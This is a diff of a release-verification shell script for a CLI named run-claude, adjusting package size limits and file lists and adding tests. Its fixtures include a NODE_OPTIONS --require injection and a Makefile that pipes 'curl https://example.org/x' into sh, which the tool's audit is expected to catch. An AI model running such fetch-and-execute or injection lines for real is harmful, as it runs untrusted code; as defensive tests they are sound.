@@ -7,8 +7,8 @@ dir=$(mktemp -d)
 trap 'rm -rf "$dir"' EXIT INT TERM
 
 # Bytes of the package as it is downloaded, and as it is installed: a change that needs more raises them, and says why.
-MAX_PACKED=2200000
-MAX_INSTALLED=8000000
+MAX_PACKED=2300000
+MAX_INSTALLED=8300000
 
 sh scripts/pack-release.sh "$dir/release"
 tarball=$(find "$dir/release" -name '*.tgz')
@@ -16,7 +16,7 @@ tarball=$(find "$dir/release" -name '*.tgz')
 
 # What may be in: the bundle, what the image is built from, the plugin, and the documents. Nothing else.
 {
-  git ls-files images seccomp docs deploy examples plugin
+  git ls-files images seccomp docs deploy examples plugin ':!docs/internals'
   find dist -type f \( -name '*.js' -o -name '*.cjs' -o -path dist/licenses.txt -o -path dist/sbom.cdx.json \)
   printf '%s\n' CHANGELOG.md CONTRIBUTING.md Dockerfile LICENSE README.md SECURITY.md package.json
 } | sort >"$dir/wanted"
@@ -26,6 +26,9 @@ if ! diff "$dir/wanted" "$dir/packed" >"$dir/difference"; then
   grep '^[<>]' "$dir/difference" >&2
   exit 1
 fi
+mkdir "$dir/unpacked"
+tar -C "$dir/unpacked" --strip-components=1 -xzf "$tarball"
+node scripts/pack-docs.mjs check "$dir/unpacked"
 for needed in dist/main.js dist/list-worker.cjs dist/copy-worker.cjs dist/licenses.txt dist/sbom.cdx.json images/pins.json images/init/init.c seccomp/profile.json; do
   grep -qx "$needed" "$dir/packed" || { echo "the package lacks $needed" >&2; exit 1; }
 done
@@ -55,6 +58,7 @@ PATH="$dir/prefix/bin:$PATH"
 version=$(run-claude version)
 run-claude help >/dev/null
 run-claude help doctor >/dev/null
+run-claude help tutorial >/dev/null
 printf 'NODE_OPTIONS=--require ./ran.cjs\n' >variables
 printf 'require("node:fs").writeFileSync("ran", "");\n' >ran.cjs
 run-claude help --env-file variables >/dev/null 2>&1 || true
@@ -63,3 +67,12 @@ if [ -e ran ]; then
   exit 1
 fi
 printf 'The installed package runs: %s\n' "$version"
+
+# The audit needs Node and git: no engine, build or login. No process of it takes 3 seconds of processor time.
+git init -q audited
+printf 'all:\n\tcurl https://example.org/x | sh\n' >audited/Makefile
+git -C audited add Makefile
+status=0
+# shellcheck disable=SC3045
+(ulimit -t 3 && env -i HOME="$dir" PATH="$PATH" run-claude audit audited --staged) || status=$?
+[ "$status" -eq 123 ] || { printf 'the audit of the installed package ends with %s\n' "$status" >&2; exit 1; }
